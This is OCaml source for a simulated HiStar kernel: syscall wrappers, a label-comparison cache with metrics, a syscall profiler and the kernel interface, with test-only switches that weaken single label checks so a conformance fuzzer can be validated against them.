  | Segment_get_size _ -> "segment_get_size"
  | Segment_copy _ -> "segment_copy"
  | As_create _ -> "as_create"
  | As_get _ -> "as_get"
  | As_map _ -> "as_map"
  | As_unmap _ -> "as_unmap"
  | Thread_create _ -> "thread_create"
  | Thread_alert _ -> "thread_alert"
  | Thread_get_label _ -> "thread_get_label"
  | Gate_create _ -> "gate_create"
  | Gate_enter _ -> "gate_enter"
  | Gate_call _ -> "gate_call"
  | Futex_wait _ -> "futex_wait"
  | Futex_wake _ -> "futex_wake"
  | Net_get_mac _ -> "net_get_mac"
  | Net_send _ -> "net_send"
  | Net_recv _ -> "net_recv"
  | Segment_cas _ -> "segment_cas"
  | Sync_object _ -> "sync_object"
  | Sync_many _ -> "sync_many"
  | Sync_range _ -> "sync_range"
  | Sync_all -> "sync_all"
  | Clock_read -> "clock_read"
