module Label = Histar_label.Label
module Category = Histar_label.Category
open Types
open Syscall

let fail_resp name resp =
  match resp with
  | R_err e -> raise (Kernel_error e)
  | _ -> invalid_arg (Printf.sprintf "Sys.%s: unexpected kernel response" name)

let unit_resp name req =
  match perform req with R_unit -> () | r -> fail_resp name r

let oid_resp name req =
  match perform req with R_oid o -> o | r -> fail_resp name r

let bytes_resp name req =
  match perform req with R_bytes b -> b | r -> fail_resp name r

let label_resp name req =
  match perform req with R_label l -> l | r -> fail_resp name r

let int_resp name req =
  match perform req with R_int v -> v | r -> fail_resp name r

(* --- categories and self --- *)

let cat_create () =
  match perform Cat_create with R_cat c -> c | r -> fail_resp "cat_create" r

let self_id () = oid_resp "self_id" Self_get_id
let self_label () = label_resp "self_label" Self_get_label
let self_clearance () = label_resp "self_clearance" Self_get_clearance
let self_set_label l = unit_resp "self_set_label" (Self_set_label l)
let self_set_clearance c = unit_resp "self_set_clearance" (Self_set_clearance c)
let self_set_as ce = unit_resp "self_set_as" (Self_set_as ce)

let self_get_as () =
  match perform Self_get_as with
  | R_centry_opt ce -> ce
  | r -> fail_resp "self_get_as" r

let self_get_return_gate () =
  match perform Self_get_return_gate with
  | R_centry_opt ce -> ce
  | r -> fail_resp "self_get_return_gate" r

let self_halt () =
  ignore (perform Self_halt);
  assert false

let yield () = unit_resp "yield" Self_yield
let usleep us = unit_resp "usleep" (Self_usleep us)

let sleep_until_ns deadline =
  unit_resp "sleep_until_ns" (Self_sleep_until deadline)

let wait_alert () =
  match perform Self_wait_alert with
  | R_alert a -> a
  | r -> fail_resp "wait_alert" r

(* --- generic object operations --- *)

let obj_label ce = label_resp "obj_label" (Obj_get_label ce)

let obj_kind ce =
  match perform (Obj_get_kind ce) with
  | R_kind k -> k
  | r -> fail_resp "obj_kind" r

let obj_descrip ce = bytes_resp "obj_descrip" (Obj_get_descrip ce)

let obj_quota ce =
  match perform (Obj_get_quota ce) with
  | R_quota (q, u) -> (q, u)
  | r -> fail_resp "obj_quota" r

let set_fixed_quota ce = unit_resp "set_fixed_quota" (Obj_set_fixed_quota ce)
let set_immutable ce = unit_resp "set_immutable" (Obj_set_immutable ce)
let get_metadata ce = bytes_resp "get_metadata" (Obj_get_metadata ce)
let set_metadata ce md = unit_resp "set_metadata" (Obj_set_metadata (ce, md))
let unref ce = unit_resp "unref" (Unref ce)

let quota_move ~container ~target ~nbytes =
  unit_resp "quota_move" (Quota_move { container; target; nbytes })

(* --- containers --- *)

let avoid_mask kinds =
  List.fold_left (fun acc k -> acc lor (1 lsl kind_to_bit k)) 0 kinds

let container_create ?(avoid = []) ~container ~label ~quota descrip =
  oid_resp "container_create"
    (Container_create ({ container; label; descrip; quota }, avoid_mask avoid))

let container_list ce =
  match perform (Container_list ce) with
  | R_entries es -> es
  | r -> fail_resp "container_list" r

let container_parent ce = oid_resp "container_parent" (Container_get_parent ce)

let container_link ~container ~target =
  unit_resp "container_link" (Container_link { container; target })

(* --- segments --- *)

let segment_create ~container ~label ~quota ?(len = 0) descrip =
  oid_resp "segment_create"
    (Segment_create ({ container; label; descrip; quota }, len))

let segment_read ce ?(off = 0) ?(len = -1) () =
  bytes_resp "segment_read" (Segment_read (ce, off, len))

let segment_write ce ?(off = 0) data =
  unit_resp "segment_write" (Segment_write (ce, off, data))

let segment_resize ce len = unit_resp "segment_resize" (Segment_resize (ce, len))

let segment_size ce =
  Int64.to_int (int_resp "segment_size" (Segment_get_size ce))

let segment_copy ~src ~container ~label ~quota descrip =
  oid_resp "segment_copy"
    (Segment_copy (src, { container; label; descrip; quota }))

let tls = centry 0L tls_oid
let tls_read () = segment_read tls ()

let tls_write data =
  if segment_size tls <> String.length data then
    segment_resize tls (String.length data);
  segment_write tls data

(* --- address spaces --- *)

let as_create ~container ~label ~quota descrip =
  oid_resp "as_create" (As_create { container; label; descrip; quota })

let as_get ce =
  match perform (As_get ce) with
  | R_mappings ms -> ms
  | r -> fail_resp "as_get" r

let as_map ce m = unit_resp "as_map" (As_map (ce, m))
let as_unmap ce va = unit_resp "as_unmap" (As_unmap (ce, va))

(* --- threads --- *)

let thread_create ~container ~label ~clearance ~quota ~name entry =
  oid_resp "thread_create"
    (Thread_create
       { spec = { container; label; descrip = name; quota }; clearance; entry })

let thread_alert ce a = unit_resp "thread_alert" (Thread_alert (ce, a))
let thread_get_label ce = label_resp "thread_get_label" (Thread_get_label ce)

(* --- gates --- *)

let gate_create ?(one_shot = false) ~container ~label ~clearance ~quota ~name
    entry =
  oid_resp "gate_create"
    (Gate_create
       {
         spec = { container; label; descrip = name; quota };
         clearance;
         entry;
         one_shot;
       })

let default_verify = Label.make Histar_label.Level.L3

let gate_enter ~gate ~label ~clearance ?(verify = default_verify) () =
  match
    perform
      (Gate_enter
         {
           gate;
           requested_label = label;
           requested_clearance = clearance;
           verify_label = verify;
         })
  with
  | R_err e -> raise (Kernel_error e)
  | _ -> assert false (* success never returns *)

let gate_call ~gate ~label ~clearance ?(verify = default_verify)
    ~return_container ~return_label ~return_clearance () =
  unit_resp "gate_call"
    (Gate_call
       {
         gate;
         requested_label = label;
         requested_clearance = clearance;
         verify_label = verify;
         return_spec =
           {
             container = return_container;
             label = return_label;
             descrip = "return gate";
             quota = 4096L;
           };
         return_clearance;
       })

(* RPC-style gate-call marshalling (§3.5): the request travels to the
   service through the thread-local segment and the reply comes back
   the same way. The TLS is exempt from label checks (it models
   per-thread memory), so a caller that gets tainted inside the
   service can still read its reply. *)
let rpc_call ~gate ~return_container req =
  tls_write req;
  gate_call ~gate ~label:(self_label ()) ~clearance:(self_clearance ())
    ~return_container ~return_label:(self_label ())
    ~return_clearance:(self_clearance ()) ();
  tls_read ()

(* Conventional RPC return. Ownership survives gate transitions via the
   floor rule, so by default the entry drops every category it owns
   that the return gate does not restore — the caller comes back with
   exactly its own privileges (plus any taint accumulated). Categories
   in [keep] are deliberately granted through the return, which is how
   the check gate of §6.2 hands the login process ownership of x. *)
let gate_return ?(keep = []) () =
  match self_get_return_gate () with
  | None -> self_halt ()
  | Some rg ->
      let rgl = obj_label rg in
      let self = self_label () in
      let self_dropped =
        Category.Set.fold
          (fun c acc ->
            if Label.owns rgl c || List.exists (Category.equal c) keep then acc
            else Label.set acc c Histar_label.Level.L1)
          (Label.owned self) self
      in
      let lr =
        Label.lower_star
          (Label.lub (Label.raise_j self_dropped) (Label.raise_j rgl))
      in
      gate_enter ~gate:rg ~label:lr ~clearance:(self_clearance ()) ()

(* The least label a thread can request when invoking [gate]:
   (L_T^J ⊔ L_G^J)^⋆. *)
let gate_floor gate =
  Label.lower_star
    (Label.lub (Label.raise_j (self_label ())) (Label.raise_j (obj_label gate)))

(* --- futexes --- *)

let futex_wait ce ~off ~expected =
  match perform (Futex_wait (ce, off, expected)) with
  | R_ok _ -> ()
  | r -> fail_resp "futex_wait" r

let futex_wake ce ~off ~count =
  Int64.to_int (int_resp "futex_wake" (Futex_wake (ce, off, count)))

(* --- network devices --- *)

let net_mac ce = bytes_resp "net_mac" (Net_get_mac ce)
let net_send ce frame = unit_resp "net_send" (Net_send (ce, frame))
let net_recv ce = bytes_resp "net_recv" (Net_recv ce)

(* --- persistence and time --- *)

let segment_cas ce ~off ~expected ~desired =
  match perform (Segment_cas (ce, off, expected, desired)) with
  | R_ok b -> b
  | r -> fail_resp "segment_cas" r

let sync_object ce = unit_resp "sync_object" (Sync_object ce)
let sync_many ces = unit_resp "sync_many" (Sync_many ces)

let sync_range ce ~off ~len = unit_resp "sync_range" (Sync_range (ce, off, len))
let sync_all () = unit_resp "sync_all" Sync_all
let clock_ns () = int_resp "clock_ns" Clock_read
