module Label = Histar_label.Label
module Metrics = Histar_metrics.Metrics

(* Counter semantics with elision (the default):
   [label.checks]   — §2 algebra actually executed (cache misses plus
                      un-summarized gate checks),
   [label.elided]   — decisions served without running the algebra
                      (cache hits and gate-summary hits),
   [label.denied]   — denials, elided or not, unchanged either way.
   With elision off (HISTAR_NO_ELIDE=1 / [~elide:false]) cache hits
   count as [label.checks] again, restoring the pre-elision accounting
   where checks = hits + misses. *)
let m_checks = Metrics.counter "label.checks"
let m_denied = Metrics.counter "label.denied"
let m_cache_hits = Metrics.counter "label.cache_hits"
let m_cache_misses = Metrics.counter "label.cache_misses"
let m_elided = Metrics.counter "label.elided"
let m_summary_invalidations = Metrics.counter "label.summary_invalidations"

(* HISTAR_NO_ELIDE=1 turns label-check elision off process-wide (both
   the cache-hit reclassification here and the kernel's gate flow
   summaries), for byte-identity comparisons against the naive path. *)
let elide_default () =
  match Stdlib.Sys.getenv_opt "HISTAR_NO_ELIDE" with
  | Some ("1" | "true" | "yes") -> false
  | Some _ | None -> true

type key = Label.t * Label.t

type t = {
  bound : int;
  elide : bool;
  observe_tbl : (key, bool) Hashtbl.t;
  modify_tbl : (key, bool) Hashtbl.t;
  mutable hits : int;
  mutable misses : int;
}

let create ?(bound = 8192) ?elide () =
  let elide = match elide with Some e -> e | None -> elide_default () in
  {
    bound;
    elide;
    observe_tbl = Hashtbl.create 256;
    modify_tbl = Hashtbl.create 256;
    hits = 0;
    misses = 0;
  }

let lookup t tbl key compute =
  let v =
    match Hashtbl.find_opt tbl key with
    | Some v ->
        t.hits <- t.hits + 1;
        Metrics.Counter.incr m_cache_hits;
        Metrics.Counter.incr (if t.elide then m_elided else m_checks);
        v
    | None ->
        t.misses <- t.misses + 1;
        Metrics.Counter.incr m_cache_misses;
        Metrics.Counter.incr m_checks;
        let v = compute () in
        if Hashtbl.length tbl >= t.bound then Hashtbl.reset tbl;
        Hashtbl.replace tbl key v;
        v
  in
  if not v then Metrics.Counter.incr m_denied;
  v

(* Exposed for the kernel's uncached check sites (gate invocation),
   which must report into the same counters. *)
let count_uncached_check ~allowed =
  Metrics.Counter.incr m_checks;
  if not allowed then Metrics.Counter.incr m_denied

(* A gate-invocation decision served from a flow summary: no algebra
   ran, but denials still count. *)
let count_elided ~allowed =
  Metrics.Counter.incr m_elided;
  if not allowed then Metrics.Counter.incr m_denied

let count_summary_invalidation () = Metrics.Counter.incr m_summary_invalidations

let observe t ~thread ~obj =
  lookup t t.observe_tbl (thread, obj) (fun () ->
      Label.can_observe ~thread ~obj)

let modify t ~thread ~obj =
  lookup t t.modify_tbl (thread, obj) (fun () -> Label.can_modify ~thread ~obj)

let hits t = t.hits
let misses t = t.misses
let elide_enabled t = t.elide

(* An independent cache with identical contents and statistics, so a
   forked kernel's hit/miss behaviour is bit-identical to the trunk's
   at the branch point (same cached entries, same reset threshold
   fill). *)
let copy t =
  {
    bound = t.bound;
    elide = t.elide;
    observe_tbl = Hashtbl.copy t.observe_tbl;
    modify_tbl = Hashtbl.copy t.modify_tbl;
    hits = t.hits;
    misses = t.misses;
  }
