module Label = Histar_label.Label
module Metrics = Histar_metrics.Metrics

(* Every cached-path label comparison, allowed or not, plus cache
   effectiveness. Gate-invocation checks bypass the cache and report
   into the same counters from the kernel. *)
let m_checks = Metrics.counter "label.checks"
let m_denied = Metrics.counter "label.denied"
let m_cache_hits = Metrics.counter "label.cache_hits"
let m_cache_misses = Metrics.counter "label.cache_misses"

type key = Label.t * Label.t

type t = {
  bound : int;
  observe_tbl : (key, bool) Hashtbl.t;
  modify_tbl : (key, bool) Hashtbl.t;
  mutable hits : int;
  mutable misses : int;
}

let create ?(bound = 8192) () =
  {
    bound;
    observe_tbl = Hashtbl.create 256;
    modify_tbl = Hashtbl.create 256;
    hits = 0;
    misses = 0;
  }

let lookup t tbl key compute =
  Metrics.Counter.incr m_checks;
  let v =
    match Hashtbl.find_opt tbl key with
    | Some v ->
        t.hits <- t.hits + 1;
        Metrics.Counter.incr m_cache_hits;
        v
    | None ->
        t.misses <- t.misses + 1;
        Metrics.Counter.incr m_cache_misses;
        let v = compute () in
        if Hashtbl.length tbl >= t.bound then Hashtbl.reset tbl;
        Hashtbl.replace tbl key v;
        v
  in
  if not v then Metrics.Counter.incr m_denied;
  v

(* Exposed for the kernel's uncached check sites (gate invocation),
   which must report into the same counters. *)
let count_uncached_check ~allowed =
  Metrics.Counter.incr m_checks;
  if not allowed then Metrics.Counter.incr m_denied

let observe t ~thread ~obj =
  lookup t t.observe_tbl (thread, obj) (fun () ->
      Label.can_observe ~thread ~obj)

let modify t ~thread ~obj =
  lookup t t.modify_tbl (thread, obj) (fun () -> Label.can_modify ~thread ~obj)

let hits t = t.hits
let misses t = t.misses

(* An independent cache with identical contents and statistics, so a
   forked kernel's hit/miss behaviour is bit-identical to the trunk's
   at the branch point (same cached entries, same reset threshold
   fill). *)
let copy t =
  {
    bound = t.bound;
    observe_tbl = Hashtbl.copy t.observe_tbl;
    modify_tbl = Hashtbl.copy t.modify_tbl;
    hits = t.hits;
    misses = t.misses;
  }
