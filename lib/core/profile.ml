type t = { counts : (string, int ref) Hashtbl.t; mutable total : int }

let create () = { counts = Hashtbl.create 64; total = 0 }

let record t name =
  t.total <- t.total + 1;
  match Hashtbl.find_opt t.counts name with
  | Some r -> incr r
  | None -> Hashtbl.add t.counts name (ref 1)

let total t = t.total

let count t name =
  match Hashtbl.find_opt t.counts name with Some r -> !r | None -> 0

(* Canonical order: count descending, then name — independent of hash
   iteration order, so profiles with equal contents always list (and
   hash) identically, whichever path (fork or replay) produced them. *)
let to_list t =
  Hashtbl.fold (fun name r acc -> (name, !r) :: acc) t.counts []
  |> List.sort (fun (na, a) (nb, b) ->
         match Int.compare b a with 0 -> String.compare na nb | c -> c)

let equal a b = a.total = b.total && to_list a = to_list b

let copy t =
  let counts = Hashtbl.create (max 64 (Hashtbl.length t.counts)) in
  Hashtbl.iter (fun name r -> Hashtbl.add counts name (ref !r)) t.counts;
  { counts; total = t.total }

let reset t =
  Hashtbl.reset t.counts;
  t.total <- 0

let pp fmt t =
  Format.fprintf fmt "@[<v>total syscalls: %d" t.total;
  List.iter (fun (name, n) -> Format.fprintf fmt "@,%8d  %s" n name) (to_list t);
  Format.fprintf fmt "@]"
