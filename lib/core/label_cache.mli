(** Memoized label comparisons.

    §4: "The kernel performs several key optimizations. It caches the
    result of comparisons between immutable labels." Object labels are
    immutable after creation and thread labels change rarely, so the
    same (thread label, object label) pairs recur on every fault-path
    access; this bounded cache short-circuits them.

    Keys are the label values themselves (structurally hashed); the
    cache is cleared wholesale when it reaches its bound, which keeps
    the worst case linear and the common case O(1). *)

type t

val create : ?bound:int -> unit -> t
(** Default bound: 8192 entries per relation. *)

val observe : t -> thread:Histar_label.Label.t -> obj:Histar_label.Label.t -> bool
(** Memoized {!Histar_label.Label.can_observe}. *)

val modify : t -> thread:Histar_label.Label.t -> obj:Histar_label.Label.t -> bool
(** Memoized {!Histar_label.Label.can_modify}. *)

val hits : t -> int
val misses : t -> int

val copy : t -> t
(** An independent cache with identical contents and statistics, so a
    forked kernel's future hit/miss behaviour matches the trunk's at
    the branch point exactly. *)

val count_uncached_check : allowed:bool -> unit
(** Report a label comparison performed outside the cache (gate
    invocation checks use {!Histar_label.Label.leq} directly) into the
    global [label.checks] / [label.denied] metrics, so those counters
    cover every kernel label decision. *)
