(** Memoized label comparisons.

    §4: "The kernel performs several key optimizations. It caches the
    result of comparisons between immutable labels." Object labels are
    immutable after creation and thread labels change rarely, so the
    same (thread label, object label) pairs recur on every fault-path
    access; this bounded cache short-circuits them.

    Keys are the label values themselves (hash-consed, so hashing and
    equality are effectively by intern identity); the cache is cleared
    wholesale when it reaches its bound, which keeps the worst case
    linear and the common case O(1).

    Counter semantics: with elision enabled (the default), a cache hit
    counts as [label.elided] — the §2 algebra did not run — and only
    misses and un-summarized gate checks count as [label.checks].
    With elision disabled ([~elide:false], or [HISTAR_NO_ELIDE=1] in
    the environment), hits count as [label.checks] as before, so
    [label.checks = label.cache_hits + label.cache_misses] on
    cache-only workloads. [label.denied] is identical either way. *)

type t

val create : ?bound:int -> ?elide:bool -> unit -> t
(** Default bound: 8192 entries per relation. [elide] defaults to
    {!elide_default}[ ()]. *)

val elide_default : unit -> bool
(** [false] iff [HISTAR_NO_ELIDE] is set to [1]/[true]/[yes] in the
    environment. *)

val elide_enabled : t -> bool

val observe : t -> thread:Histar_label.Label.t -> obj:Histar_label.Label.t -> bool
(** Memoized {!Histar_label.Label.can_observe}. *)

val modify : t -> thread:Histar_label.Label.t -> obj:Histar_label.Label.t -> bool
(** Memoized {!Histar_label.Label.can_modify}. *)

val hits : t -> int
val misses : t -> int

val copy : t -> t
(** An independent cache with identical contents and statistics, so a
    forked kernel's future hit/miss behaviour matches the trunk's at
    the branch point exactly. *)

val count_uncached_check : allowed:bool -> unit
(** Report a label comparison performed outside the cache (gate
    invocation checks use {!Histar_label.Label.leq} directly) into the
    global [label.checks] / [label.denied] metrics, so those counters
    cover every kernel label decision. *)

val count_elided : allowed:bool -> unit
(** Report a gate-invocation decision served from a per-gate flow
    summary: counts into [label.elided] (and [label.denied] when the
    cached decision was a denial) without touching [label.checks]. *)

val count_summary_invalidation : unit -> unit
(** Report a flow-summary invalidation (thread label/clearance epoch
    bump with live summaries, or a summarized gate being destroyed)
    into [label.summary_invalidations]. *)
