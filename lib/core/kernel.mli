(** The HiStar kernel (§3, §4).

    Six object types — segments, threads, address spaces, gates,
    containers and devices — each carrying a label, a quota, 64 bytes
    of metadata and an immutable flag. Every system call performs the
    paper's label checks; the end-to-end property is that the contents
    of object A can only affect object B if, for every category c in
    which A is more tainted than B, a thread owning c takes part.

    Threads are cooperative coroutines built on OCaml 5 effect
    handlers: user code calls the wrappers in {!Sys} (each performs the
    {!Syscall.Syscall} effect), and the kernel's round-robin scheduler
    interprets them. Gate entry/return is modelled exactly as a control
    transfer: entering a gate abandons the thread's current
    continuation; a return gate created by [gate_call] stores the
    caller's continuation and resumes it when entered.

    The kernel optionally sits on a {!Histar_store.Store.t}: individual
    objects can be fsynced through the write-ahead log, and
    [checkpoint] snapshots the whole system (the single-level store).
    Thread continuations and gate entry closures are not serializable;
    after {!recover} threads come back halted, which this simulation
    documents as its one departure from the paper's full persistence. *)

module Label = Histar_label.Label
module Category = Histar_label.Category
open Types

type t

type weaken =
  | Weaken_segment_read_taint
  | Weaken_gate_star_grant
  | Weaken_unref_check
  | Weaken_stale_summary
      (** Test-only switches that each weaken exactly one label-check
          mechanism (segment_read's observe check, the gate-invocation
          ⋆-floor check, unref's container modify check, and the
          gate flow-summary validation — [Weaken_stale_summary] serves
          summaries without the epoch/thread check, so they survive
          ownership transfer). The conformance fuzzer's
          mutation-killing self-test asserts it detects every one as a
          model divergence within a bounded budget. *)

(** {1 Construction and scheduling} *)

val create :
  ?seed:int64 ->
  ?clock:Histar_util.Sim_clock.t ->
  ?store:Histar_store.Store.t ->
  ?syscall_cost_ns:int ->
  ?instrument:bool ->
  ?weaken:weaken ->
  ?elide:bool ->
  unit ->
  t
(** [instrument] (default [true]) controls whether the syscall dispatch
    loop reports into the global {!Histar_metrics.Metrics} registry at
    all. With it [true] but the registry disabled, each syscall costs
    one flag load and branch; [false] skips even that, giving the
    overhead test a no-instrumentation baseline. [weaken] (default
    none) deliberately disables one label check — tests only.

    [elide] (default {!Label_cache.elide_default}[ ()], i.e. on unless
    [HISTAR_NO_ELIDE=1]) enables label-check elision: per-gate flow
    summaries answer repeat gate-invocation checks with one interned
    comparison, and label-cache hits count as [label.elided] instead of
    [label.checks]. Elision is decision-invisible — every syscall
    returns a bit-identical result, including denial messages, and
    [label.denied] is unchanged; only the [label.checks] /
    [label.elided] split moves. [Weaken_stale_summary] forces [elide]
    on. *)

val clock : t -> Histar_util.Sim_clock.t
val root : t -> oid
(** The root container: quota ∞, label [{1}], never deallocated. *)

val spawn :
  t ->
  ?label:Label.t ->
  ?clearance:Label.t ->
  ?container:oid ->
  name:string ->
  (unit -> unit) ->
  oid
(** Host-level bootstrap: create a thread outside any label checks
    (used to start init processes and test harnesses). Defaults:
    label [{1}], clearance [{2}], linked in the root container. *)

val run : t -> unit
(** Run until no thread is runnable. Threads blocked on futexes,
    alerts or device receive queues remain blocked; delivering a
    packet or alert and calling [run] again resumes them. Threads
    parked on a timer deadline ([Sys.sleep_until_ns]) do not keep the
    system alive by themselves — when only timers remain, the clock
    jumps to the earliest deadline and that thread runs; [run]
    returns once every thread is blocked on an external event. *)

val step : t -> bool
(** Run a single thread slice; [false] if nothing was runnable (after
    attempting to fire the earliest parked timer deadline). *)

val runnable_count : t -> int
val blocked_count : t -> int
val live_thread_count : t -> int

val next_timer_ns : t -> int64 option
(** Earliest deadline (virtual ns) any thread is parked on, if any.
    Lets a multi-kernel driver (lib/dist) pick which host's idle
    clock to advance next instead of letting each [step] fire its own
    timers prematurely. *)

(** {1 Devices} *)

val attach_netdev :
  t ->
  container:oid ->
  label:Label.t ->
  mac:string ->
  transmit:(string -> unit) ->
  oid
(** Create a network device whose transmit path invokes [transmit]
    (the simulated wire). *)

val deliver_packet : t -> oid -> string -> unit
(** Host-side packet arrival: enqueue on the device receive queue and
    wake blocked receivers. *)

val host_wake_futex : t -> oid -> off:int -> unit
(** Host-side wake of all futex waiters on a segment word, for device
    glue that runs outside any thread. *)

(** {1 Persistence} *)

val checkpoint : t -> unit
(** Whole-system snapshot into the backing store (group sync). A
    kernel without a store ignores this. *)

val recover : store:Histar_store.Store.t -> t
(** Rebuild kernel state from a store. Threads recover halted; gates
    recover with dead entries (see module comment). *)

(** {1 Branchable kernel states}

    A {!handle} is an immutable version of the whole kernel: every
    object in serialized form inside a persistent map, plus the scalar
    machine state (generators, virtual time, label-cache and profile
    copies). {!fork} is O(changed objects) in tree writes — N sibling
    forks of a quiescent kernel allocate O(N) B+-tree nodes, never
    O(N·objects) — and the handle itself is a pure value: {!resume} any
    number of independent kernels from it, in any order. Like
    {!recover}, a resumed branch has all threads halted and
    code-carrying gates dead (continuations are not serializable);
    harnesses re-arm them with {!restart_thread} and
    {!set_gate_entry}. *)

type handle
(** An immutable, branchable whole-kernel version. *)

val fork : ?name:string -> t -> handle
(** Capture the current state. With [~name] the handle is also
    published in a process-wide registry ({!find_handle}) until
    {!drop}ped — named branch points for multi-phase harnesses. *)

val resume : handle -> t
(** An independent kernel at the captured state: fresh clock advanced
    to the captured virtual time, generators restored, no backing
    store. Mutations never reach the handle or any sibling branch. *)

val drop : handle -> unit
(** Unpublish a named handle from the registry (no-op for anonymous
    handles or if the name was rebound since). The value itself stays
    usable — dropping only forgets the name. *)

val handle_name : handle -> string option
val find_handle : string -> handle option
val handle_names : unit -> string list
(** Registered branch-point names, sorted. *)

val handle_object_count : handle -> int

val restart_thread : t -> oid -> (unit -> unit) -> unit
(** Give a halted (resumed/recovered) thread a fresh entry body: same
    oid, same TLS segment, no generator state consumed, re-enqueued as
    ready. Raises [Invalid_argument] if the oid is not a thread. *)

val set_gate_entry : t -> oid -> (unit -> unit) -> unit
(** Re-arm a gate whose entry was lost to serialization ([Entry_dead]).
    Raises [Invalid_argument] if the oid is not a gate or its entry is
    still live. *)

(** {1 Introspection (host/test interface, not subject to labels)} *)

val object_count : t -> int

(** (hits, misses) of the §4 label-comparison cache. *)
val label_cache_stats : t -> int * int

val elide_enabled : t -> bool

val label_epoch : t -> int
(** Advances whenever any thread's label or clearance actually changes;
    gate flow summaries recorded under an older epoch are stale. *)

val gate_summary_count : t -> int
(** Live per-gate flow summaries (evicted when their gate is
    destroyed). *)

val profile : t -> Profile.t
val obj_label : t -> oid -> Label.t option
val obj_kind : t -> oid -> kind option
val obj_quota : t -> oid -> (int64 * int64) option
(** (quota, usage). *)

val container_children : t -> oid -> (oid * kind) list option
val segment_data : t -> oid -> string option
val thread_state : t -> oid -> [ `Ready | `Running | `Blocked | `Halted ] option
val thread_label : t -> oid -> Label.t option

(** {2 Conformance-observation API}

    Read-only views of the externally-specified object state, for
    comparing a kernel run against the {!Histar_model} reference
    model. Host/test interface, not subject to label checks. *)

val obj_refs : t -> oid -> int option
val obj_flags : t -> oid -> (bool * bool) option
(** (fixed_quota, immutable). *)

val obj_metadata : t -> oid -> string option
val obj_descrip : t -> oid -> string option
val thread_clearance : t -> oid -> Label.t option
val as_mappings : t -> oid -> Syscall.mapping list option
val container_parent_of : t -> oid -> oid option

type trace_event = {
  ev_thread : oid;
  ev_thread_label : Label.t;
  ev_op : string;
  ev_obj : oid;
  ev_obj_label : Label.t;
  ev_dir : [ `Observe | `Modify ];
}
(** Emitted on every *permitted* observe/modify so tests can verify the
    information-flow rules were honoured (the "flow oracle"). *)

val set_trace : t -> (trace_event -> unit) option -> unit

val infinite_quota : int64
