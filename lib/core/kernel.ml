module Label = Histar_label.Label
module Level = Histar_label.Level
module Category = Histar_label.Category
module Category_gen = Histar_crypto.Category_gen
module Store = Histar_store.Store
module Bptree = Histar_btree.Bptree
module Sim_clock = Histar_util.Sim_clock
module Codec = Histar_util.Codec
open Types
open Syscall
module Metrics = Histar_metrics.Metrics
module Mtrace = Histar_metrics.Trace

(* Syscall dispatch counters: total traps, per-syscall virtual-time
   latency (trap cost + handler work, including any disk time the
   handler charges), and how many syscalls failed a label check. *)
let m_syscalls = Metrics.counter "kernel.syscalls"
let m_syscall_ns = Metrics.histogram "kernel.syscall_ns"
let m_label_errors = Metrics.counter "kernel.syscall_label_errors"

let infinite_quota = Int64.max_int
let base_overhead = 512L
(* kernel-meta record key in the store; outside the 61-bit oid space *)
let meta_oid = -2L

(* ---------- scheduler plumbing ---------- *)

type run_state =
  | Finished
  | Crashed of exn
  | Syscalled of req * kont

and kont = (resp, run_state) Effect.Deep.continuation

type runnable = Start of (unit -> unit) | Resume of kont * resp

type wait_reason =
  | W_futex of oid * int
  | W_net of oid
  | W_alert
  | W_timer of int64  (** virtual-ns deadline *)

(* ---------- kernel objects ---------- *)

type segment = { mutable data : Bytes.t }

type container = {
  children : (oid, kind) Hashtbl.t;
  avoid : int;
  mutable parent : oid;
}

type thread = {
  mutable tclear : Label.t;
  tls : oid;
  mutable tas : centry option;
  mutable tstate : [ `Ready | `Running | `Blocked of wait_reason | `Halted ];
  mutable next_run : runnable option;
  mutable parked : kont option;
  alerts : int Queue.t;
  mutable return_gate : centry option;
}

type gate_entry =
  | Entry_fn of (unit -> unit)
  | Entry_resume of (kont * centry option) option ref
      (** one-shot return gate: the caller's continuation plus the
          return-gate pointer to restore (so nested gate calls do not
          clobber the outer one) *)
  | Entry_dead  (** recovered from disk: code is gone *)

type gate = { gclear : Label.t; mutable gentry : gate_entry; gonce : bool }
(* [gentry] is mutable only so harnesses can re-arm an [Entry_dead]
   gate after resuming a forked/recovered state (see [set_gate_entry]);
   the kernel itself never reassigns it. [gonce] marks a one-shot
   service gate: reaped from its naming container after the first
   successful invocation, exactly like the return gates [gate_call]
   mints — the kernel primitive beneath scoped label excursions
   (lib/lio's [to_labeled]/[catch]). *)
type address_space = { mutable mappings : mapping list }

type device = {
  mac : string;
  rx : string Queue.t;
  mutable transmit : string -> unit;
}

type body =
  | Seg of segment
  | Con of container
  | Thr of thread
  | Gat of gate
  | Asp of address_space
  | Dev of device

type obj = {
  id : oid;
  kind : kind;
  mutable label : Label.t;  (** mutable for threads only *)
  descrip : string;
  mutable quota : int64;
  mutable usage : int64;
  mutable fixed_quota : bool;
  mutable immut : bool;
  mutable metadata : string;
  mutable refs : int;
  body : body;
}

type trace_event = {
  ev_thread : oid;
  ev_thread_label : Label.t;
  ev_op : string;
  ev_obj : oid;
  ev_obj_label : Label.t;
  ev_dir : [ `Observe | `Modify ];
}

(* Deliberate, test-only weakenings of single label checks. The
   conformance fuzzer (lib/check/conformance.ml) must detect each one as
   a divergence from the reference model within its bounded budget —
   a mutation-killing self-test that the differential oracle actually
   has teeth. Never set outside tests. *)
type weaken =
  | Weaken_segment_read_taint  (** skip the observe check on segment_read *)
  | Weaken_gate_star_grant  (** skip the ⋆-floor check on gate invocation *)
  | Weaken_unref_check  (** skip the modify check on unref *)
  | Weaken_stale_summary
      (** serve gate flow summaries without epoch/thread validation, i.e.
          summaries survive ownership transfer and thread switches *)

(* Per-gate flow summary: the memoized outcome of [check_gate_invoke]
   for one (thread, epoch, requested-label triple). Sound because the
   gate's label and clearance are immutable, the requested triple is
   compared by interned identity, and [s_epoch]/[s_thread] pin the
   only mutable inputs (the invoking thread's label and clearance):
   any thread label or clearance change anywhere bumps the kernel's
   [label_epoch], so a hit provably recomputes to the same result —
   including the identical error string on a cached denial. *)
type gate_summary = {
  mutable s_epoch : int;
  mutable s_thread : oid;
  mutable s_req : Label.t * Label.t * Label.t;
      (** requested label, requested clearance, verify label *)
  mutable s_result : unit result;
}

type t = {
  clock : Sim_clock.t;
  store : Store.t option;
  objects : (oid, obj) Hashtbl.t;
  oidgen : Category_gen.t;
  catgen : Category_gen.t;
  runq : oid Queue.t;
  futexq : (int64, oid Queue.t) Hashtbl.t;
  label_cache : Label_cache.t;
  profile : Profile.t;
  mutable current : oid;
  mutable root : oid;
  mutable trace : (trace_event -> unit) option;
  syscall_cost_ns : int;
  instrument : bool;
  weaken : weaken option;
  elide : bool;
